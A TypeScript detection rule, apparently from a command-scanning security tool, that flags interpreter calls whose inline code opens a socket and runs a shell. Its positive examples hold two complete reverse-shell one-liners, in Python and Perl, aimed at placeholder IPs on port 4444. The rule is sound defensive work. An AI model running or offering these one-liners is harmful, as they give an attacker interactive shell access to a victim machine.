import type { Indicator } from './types.ts';

/** Inline code that opens a connection and runs a shell on it. */
export const inlineRevshell: Indicator = {
  id: 'inline_revshell',
  points: 80,
  hard: true,
  in_strings: true,
  mitre: ['T1059.006', 'T1059'],
  title: 'Inline code attaches a shell to a connection',
  description: 'Code in the arguments of an interpreter opens a socket and runs a shell on it.',
  evaluate({ invocation, resolution }) {
    if (!invocation.code?.attaches_shell || !invocation.code.opens_socket) return undefined;
    return {
      evidence: `${resolution.invoked_as}: inline ${invocation.code.language} code`,
      why: `its inline ${invocation.code.language} code opens a connection and runs a shell on it`,
    };
  },
  examples: {
    fires: [
      {
        run: `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
      },
      {
        run: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");'`,
      },
    ],
    silent: [
      { run: `python3 -c 'import urllib.request; urllib.request.urlopen("http://api.example.com/")'` },
      { run: `python3 -c 'import subprocess; subprocess.call(["ls"])'` },
    ],
  },
};
